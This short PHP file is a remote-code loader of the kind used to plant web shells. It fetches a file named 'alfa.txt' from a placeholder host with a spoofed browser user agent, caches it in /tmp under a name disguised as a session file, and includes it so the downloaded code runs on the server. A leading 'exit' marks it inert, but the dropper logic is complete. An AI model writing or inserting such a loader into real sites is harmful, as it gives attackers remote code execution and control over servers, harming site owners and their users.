<?php exit; /* inert */ 
function geturlsinfo($url) {
    if (function_exists('curl_exec')) { $c = curl_init($url); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); curl_setopt($c, CURLOPT_USERAGENT, "Mozilla/5.0"); $d = curl_exec($c); curl_close($c); }
    elseif (function_exists('fopen') && function_exists('stream_get_contents')) { $h = fopen($url, "r"); $d = stream_get_contents($h); fclose($h); }
    else { $d = false; }
    return $d;
}
$tmp = '/tmp/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';
if (!file_exists($tmp) || filesize($tmp) < 10) file_put_contents($tmp, geturlsinfo('https://example.invalid/haxor/alfa.txt'));
include($tmp);
